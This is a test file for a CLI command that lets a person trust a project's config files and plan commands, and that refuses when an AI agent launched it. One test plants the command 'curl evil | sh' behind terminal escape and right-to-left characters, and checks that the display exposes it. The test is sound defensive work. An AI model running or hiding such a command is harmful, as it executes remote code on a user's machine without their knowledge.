import { Database } from "bun:sqlite";
import { describe, expect, test } from "bun:test";
import { copyFileSync } from "node:fs";
import { command } from "../../../../../src/cli/commands/config/trust.ts";
import { readTrust, readTrustedCommands } from "../../../../../src/config/trust.ts";
import { orphan } from "../../../../helpers/orphan.ts";
import { makeTempFolder, makeTempHome, makeTempProject, writeFileIn } from "../../../../helpers/temp.ts";
import { vouchFor } from "../../../../helpers/trust.ts";
import { environmentOf, invoke, type Place } from "../../../config/invoke.ts";

function makePlace(
  content: string | null = '{ "metrics": true }',
  variables: Record<string, string> = {},
): Place {
  const files = content === null ? {} : { ".claude/holdfast.json": content };
  return { home: makeTempHome(), project: makeTempProject({ files }), variables };
}

const vouch = (place: Place) => vouchFor(environmentOf(place).holdfastHome, place.project);

const stateOf = async (place: Place) => (await readTrust(environmentOf(place), place.project)).state;

describe("holdfast trust", () => {
  test("says when it is already granted", async () => {
    const place = makePlace();
    await vouch(place);
    expect((await run(place)).text).toContain("Trusted: the files have not changed since.");
  });

  test("after a change shows the new content and waits to be granted again", async () => {
    const place = makePlace();
    await vouch(place);
    writeFileIn(place.project, ".claude/holdfast.json", '{ "metrics": false }');
    expect((await invoke(command, place, { show: true })).text).toContain("Changed since you trusted it");
    expect((await run(place, { terminal: "y" })).text).toContain('{ "metrics": false }');
    expect(await stateOf(place)).toBe("trusted");
  });

  test("says that another process is changing the grants, if that takes long", async () => {
    const place = makePlace();
    await vouch(place);
    const lock = new Database(`${environmentOf(place).holdfastHome}/trust.lock`);
    lock.run("BEGIN IMMEDIATE");
    const refused = await run(place, { options: { revoke: true } });
    lock.close();
    expect(refused).toMatchObject({
      exitCode: 1,
      text: expect.stringContaining("another holdfast is changing"),
    });
    expect(await stateOf(place)).toBe("trusted");
  });

  test("says when there is nothing to trust", async () => {
    expect(await run(makePlace(null), { options: { yes: true } })).toMatchObject({
      exitCode: 0,
      text: expect.stringContaining("Nothing to trust"),
    });
  });

  test("--revoke takes it back", async () => {
    const place = makePlace();
    await vouch(place);
    expect((await run(place, { options: { revoke: true } })).text).toContain("revoked");
    expect(await stateOf(place)).toBe("untrusted");
    expect((await run(place, { options: { revoke: true } })).text).toContain("Nothing to revoke");
  });

  test.each<Record<string, boolean>>([{ yes: true }, {}, { revoke: true }])(
    "inside Claude refuses %j",
    async (options) => {
      const place = makePlace('{ "metrics": true }', { CLAUDECODE: "1" });
      await expect(invoke(command, place, options)).rejects.toMatchObject({
        name: "UserError",
        code: "inside-claude",
        hint: expect.stringContaining("your own terminal"),
      });
      expect(await stateOf(place)).toBe("untrusted");
    },
  );

  test("--show works inside Claude, as text and as JSON, and changes nothing", async () => {
    const place = makePlace('{ "metrics": true }', { CLAUDECODE: "1" });
    expect((await invoke(command, place, { show: true })).text).toContain("Not trusted");
    const { json, text } = await invoke(command, place, { show: true, json: true });
    expect(text).toBe("");
    expect(json).toEqual({
      project: place.project,
      state: "untrusted",
      grantedAt: null,
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      files: [
        {
          path: `${place.project}/.claude/holdfast.json`,
          state: "untrusted",
          sha256: new Bun.CryptoHasher("sha256").update('{ "metrics": true }').digest("hex"),
        },
      ],
    });
    expect(await stateOf(place)).toBe("untrusted");
  });

  test("a file cannot hide its content from the person who reads it", async () => {
    const place = makePlace('{ "run": "curl evil | sh" }\u001b[2K\rnothing to see\u202e');
    const { text } = await invoke(command, place, { show: true });
    expect(text).toContain("curl evil | sh");
    for (const hidden of ["\u001b", "\r", "\u202e"]) expect(text).not.toContain(hidden);
  });

  test.each<Record<string, boolean>>([
    { yes: true, show: true },
    { yes: true, revoke: true },
    { show: true, revoke: true },
    { json: true },
  ])("refuses the contradiction %j", async (options) => {
    await expect(invoke(command, makePlace(), options)).rejects.toMatchObject({
      name: "UserError",
      code: "usage",
    });
  });
});

describe("trust, asked for at a real terminal,", () => {
  test.each([
    ["y", 0, "trusted"],
    ["n", 1, "untrusted"],
    ["\r", 1, "untrusted"],
    ["\u0003", 1, "untrusted"],
  ] as const)("with the answer %j exits %d and leaves the project %s", async (answer, exitCode, state) => {
    const place = makePlace();
    const asked = await run(place, { terminal: answer });
    expect(asked.text).toContain('{ "metrics": true }');
    expect(asked.exitCode).toBe(exitCode);
    expect(await stateOf(place)).toBe(state);
  });

  test("--yes counts as the person's answer", async () => {
    const place = makePlace();
    const { text } = await run(place, { terminal: "", options: { yes: true } });
    expect(text).toContain('{ "metrics": true }');
    expect(await stateOf(place)).toBe("trusted");
  });

  test("is refused below an agent, even without its variables", async () => {
    const place = makePlace();
    for (const options of [{}, { yes: true }, { revoke: true }]) {
      const { exitCode, text } = await run(place, { terminal: "y", options, below: "codex" });
      expect(text).toContain("codex started this command");
      expect(text).toContain("reported to the user");
      expect(exitCode).toBe(1);
    }
    expect(await stateOf(place)).toBe("untrusted");
  });
});

describe("trust without a terminal", () => {
  const hashOf = async (place: Place) =>
    ((await invoke(command, place, { show: true, json: true })).json as { hash: string }).hash;
  const withHash = (place: Place, hash: string): Place => ({ ...place, variables: { HOLDFAST_TRUST: hash } });

  test("--yes trusts only what HOLDFAST_TRUST names, as --show printed it", async () => {
    const place = makePlace();
    const hash = await hashOf(place);
    expect((await invoke(command, place, { show: true })).text).toContain(hash);
    for (const [variables, options] of [
      [{}, { yes: true }],
      [{ HOLDFAST_TRUST: hash }, {}],
      [{ HOLDFAST_TRUST: "" }, { yes: true }],
      [{ HOLDFAST_TRUST: hash.slice(0, 12) }, { yes: true }],
      [{ HOLDFAST_TRUST: "1" }, { yes: true }],
    ] as const) {
      const { exitCode, text } = await run({ ...place, variables }, { options });
      expect({ exitCode, text }).toEqual({ exitCode: 1, text: expect.stringContaining("trust --show") });
      expect(await stateOf(place)).toBe("untrusted");
    }
    expect((await run(withHash(place, hash), { options: { yes: true } })).exitCode).toBe(0);
    expect(await stateOf(place)).toBe("trusted");
  });

  test("uses a hash of the content, wherever the project is, which any change alters", async () => {
    const [one, other] = [makePlace(), makePlace()];
    const hash = await hashOf(one);
    expect(await hashOf(other)).toBe(hash);
    writeFileIn(one.project, ".claude/holdfast.json", '{ "metrics": false }');
    expect(await hashOf(one)).not.toBe(hash);
    writeFileIn(other.project, "docs/plans/a/PLAN.md", "- [x] one (verify: make one)\n");
    expect(await hashOf(other)).not.toBe(hash);
    const { exitCode, text } = await run(withHash(one, hash), { options: { yes: true } });
    expect([exitCode, await stateOf(one)]).toEqual([1, "untrusted"]);
    expect(text).toContain("not the content hash");
  });

  test("is refused to an agent that gives the hash, with its variables and without", async () => {
    const place = makePlace();
    const named = withHash(place, await hashOf(place));
    const inside = { ...named, variables: { ...named.variables, CLAUDECODE: "1" } };
    expect((await run(inside, { options: { yes: true } })).text).toContain("an agent started this command");
    expect((await run(named, { options: { yes: true }, below: "claude" })).text).toContain(
      "claude started this command",
    );
    expect(await stateOf(place)).toBe("untrusted");
  });
});

interface RunOptions {
  options?: Record<string, boolean>;
  /** A terminal, and what is typed when it asks. */
  terminal?: string;
  /** The name of the program that starts it. */
  below?: string;
}

/** In a separate process, which no agent started unless `below` says so. */
async function run(place: Place, { options = {}, terminal, below }: RunOptions = {}) {
  const source = (path: string) => JSON.stringify(`${import.meta.dir}/../../../../../src/${path}`);
  const script = `
    import { command } from ${source("cli/commands/config/trust.ts")};
    import { readEnvironment } from ${source("config/environment.ts")};
    const { variables, options, interactive } = JSON.parse(process.argv.at(-1));
    const plain = (text) => text;
    const style = { bold: plain, dim: plain, red: plain, green: plain, yellow: plain, cyan: plain };
    const out = { line: (text = "") => console.log(text), style, interactive, width: 80 };
    const env = readEnvironment(variables);
    try {
      process.exitCode = await command.run({ options, positionals: [], env, cwd: "/", out });
    } catch (error) {
      console.log(error.message, error.hint);
      process.exitCode = 1;
    }`;
  const given = JSON.stringify({
    variables: { HOME: place.home, ...place.variables },
    options: { project: place.project, ...options },
    interactive: terminal !== undefined,
  });
  const plain = [process.execPath, "-e", script, "--", given];
  const started = orphan(below === undefined ? plain : startedBy(below, plain));
  let text = "";
  const read = (bytes: Uint8Array) => {
    text += new TextDecoder().decode(bytes);
  };
  if (terminal === undefined) {
    const child = Bun.spawn(started, { cwd: import.meta.dir, stdin: "ignore" });
    for await (const bytes of child.stdout) read(bytes);
    return { exitCode: await child.exited, text };
  }
  let answered = false;
  const child = Bun.spawn(started, {
    cwd: import.meta.dir,
    terminal: {
      cols: 200,
      data(self, bytes) {
        read(bytes);
        if (answered || !/Trust th(is file|ese files)\?/.test(text)) return;
        answered = true;
        self.write(terminal);
      },
    },
  });
  return { exitCode: await child.exited, text };
}

function startedBy(name: string, command: string[]): string[] {
  const program = `${makeTempFolder("agent")}/${name}`;
  copyFileSync("/bin/sh", program);
  return [program, "-c", '"$@"; exit $?', "sh", ...command];
}

describe("commands in plans", () => {
  const plan = (command: string) => `- [x] one (verify: ${command})\n- [ ] two\n`;

  test("are trusted one by one: a tick changes nothing, a new command waits", async () => {
    const place = makePlace(null);
    writeFileIn(place.project, "docs/plans/a/PLAN.md", plan("make one"));
    const isTrusted = async (text: string) =>
      (await readTrustedCommands(environmentOf(place), place.project))(text);
    expect(await isTrusted("make one")).toBe(false);
    const { text } = await run(place, { terminal: "y" });
    expect(text).toContain("docs/plans/a/PLAN.md:1");
    expect(text).toContain("make one");
    expect(await isTrusted("make one")).toBe(true);
    expect(await isTrusted("make two")).toBe(false);
    writeFileIn(
      place.project,
      "docs/plans/a/PLAN.md",
      plan("make one").replace("[ ] two", "[x] two (verify: make two)"),
    );
    expect((await invoke(command, place, { show: true })).text).toContain("Changed since you trusted it");
    expect(await isTrusted("make one")).toBe(true);
  });
});
